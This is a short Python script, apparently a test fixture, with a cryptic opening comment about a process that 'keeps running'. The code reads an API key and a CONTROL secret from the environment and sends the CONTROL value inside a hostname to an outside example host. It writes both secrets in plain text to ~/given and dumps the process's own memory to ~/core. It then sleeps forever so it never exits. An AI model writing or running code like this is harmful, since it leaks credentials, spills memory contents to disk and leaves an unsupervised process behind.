# One that has asked and keeps running. It writes all of its memory to a file, as a core
# would have it, and what it was given on purpose to the disk.
import os, socket, sys, time

import openai, requests

control, key = os.environ["CONTROL"], os.environ["OPENAI_API_KEY"]
session = requests.Session()
print(session.get("https://api.example/stay/plain", headers={"Authorization": "Bearer " + key}).status_code)
kept = openai.OpenAI(base_url="https://api.example/stay/v1")
try:
    requests.get(f"https://{control}.example/")
except requests.RequestException:
    pass
with open(os.path.expanduser("~/given"), "w") as f:
    f.write(control + key)
with open("/proc/self/maps") as f:
    maps = [line.split() for line in f]
with open("/proc/self/mem", "rb", 0) as mem, open(os.path.expanduser("~/core"), "wb") as core:
    for span, access, *_ in maps:
        begin, end = (int(x, 16) for x in span.split("-"))
        if access[0] != "r" or end > 1 << 63:
            continue
        try:
            mem.seek(begin)
            core.write(mem.read(end - begin))
        except OSError:
            pass
print("dumped", flush=True)
while True:
    time.sleep(60)
